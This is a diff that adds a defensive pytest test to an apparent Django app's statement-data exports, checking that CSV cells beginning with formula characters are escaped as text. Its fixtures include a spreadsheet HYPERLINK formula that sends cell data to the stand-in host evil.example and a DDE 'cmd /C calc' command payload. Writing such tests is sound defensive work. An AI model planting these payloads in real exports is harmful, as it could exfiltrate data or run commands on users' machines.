@@ -90,6 +90,23 @@ def test_the_csv_download_has_a_row_per_published_statement(client, record):
     assert putin_row["url"].endswith(record["published"].get_absolute_url())
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_kept_as_text(client, start):
+    statement = CitationFactory(
+        statement__text='=HYPERLINK("https://evil.example/?"&A1,"click")',
+        statement__relayed_by=f"{start}cmd|' /C calc'!A0",
+    ).statement
+    response = client.get("/data/statements.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + statement.text in cells
+    assert f"'{start}cmd|' /C calc'!A0" in cells
+    # The JSON download keeps the words exactly: only spreadsheets need the apostrophe.
+    data = json.loads(b"".join(client.get("/data/statements.json").streaming_content))
+    assert [item["words"] for item in data] == [statement.text]
+
+
 def test_the_json_download_takes_the_lists_filters(client, record):
     response = client.get("/data/statements.json", {"speaker": "vladimir-putin"})
     data = json.loads(b"".join(response.streaming_content))
